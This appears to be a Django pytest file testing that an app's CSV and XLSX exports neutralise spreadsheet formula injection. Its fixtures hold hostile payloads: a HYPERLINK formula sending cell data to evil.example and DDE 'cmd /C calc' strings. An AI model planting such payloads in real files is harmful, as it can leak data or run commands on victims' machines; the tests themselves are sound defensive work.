"""Exports: user text that a spreadsheet would run as a formula comes out quoted, in every export."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from partnership.choices import Role
from partnership.exports import safe_cell
from tests.agreements.factories import agreement_between
from tests.finance.factories import BudgetFactory, BudgetLineFactory, ContributionFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_run_as_a_formula_is_quoted(start):
    assert safe_cell(f"{start}1+cmd|' /C calc'!A0") == f"'{start}1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["Pooled fund", "", "-1,250.00", "-12", "+3.5", Decimal("-7.00"), -3, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile_agreement(world):
    agreement = agreement_between(
        world.ours, world.bodies["council"], world.bodies["nhs"], reference="R-EVIL", title=FORMULA
    )
    agreement.title = FORMULA + " "
    agreement._change_reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    agreement.save()
    return agreement


def _register_url(world):
    return reverse("agreements:list", kwargs={"partnership": world.ours.slug})


def test_register_csv_quotes_a_formula_title(client, world, hostile_agreement):
    client.force_login(world.user("council", Role.OFFICER))
    response = client.get(_register_url(world) + "?export=csv")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == "R-EVIL")
    assert row[1] == "'" + FORMULA + " "


def test_register_xlsx_stores_a_formula_title_as_text(client, world, hostile_agreement):
    client.force_login(world.user("council", Role.OFFICER))
    response = client.get(_register_url(world) + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    row = next(row for row in sheet.iter_rows() if row[0].value == "R-EVIL")
    assert row[1].data_type == "s"
    assert row[1].value == "'" + FORMULA + " "


def test_register_offers_no_other_export_format(client, world, hostile_agreement):
    client.force_login(world.user("council", Role.OFFICER))
    response = client.get(_register_url(world) + "?export=json")
    assert response["Content-Type"].startswith("text/html")


def test_audit_log_csv_quotes_a_formula_reason(client, world, hostile_agreement):
    client.force_login(world.user("council", Role.AUDITOR))
    url = reverse("audit:log", kwargs={"partnership": world.ours.slug})
    response = client.get(url + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    reasons = [row[8] for row in rows[1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in reasons
    assert not any(reason.startswith(("=", "+", "-", "@")) for reason in reasons)


def test_finance_workbook_stores_formula_names_as_text(client, world):
    council = world.bodies["council"]
    budget = BudgetFactory(partnership=world.ours, host=council, name=FORMULA)
    BudgetLineFactory(budget=budget, organisation=council, name="+cmd|' /C calc'!A0")
    ContributionFactory(budget=budget, organisation=council, year=2018, amount=Decimal("100.00"))
    client.force_login(world.user("council", Role.FINANCE_OFFICER))
    url = reverse("finance:budget_xlsx", kwargs={"partnership": world.ours.slug, "budget": budget.pk})
    workbook = load_workbook(io.BytesIO(client.get(url).getvalue()))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + FORMULA in texts
    assert "'+cmd|' /C calc'!A0" in texts
    assert 100 in {cell.value for cell in cells if isinstance(cell.value, int | float)}  # still a number
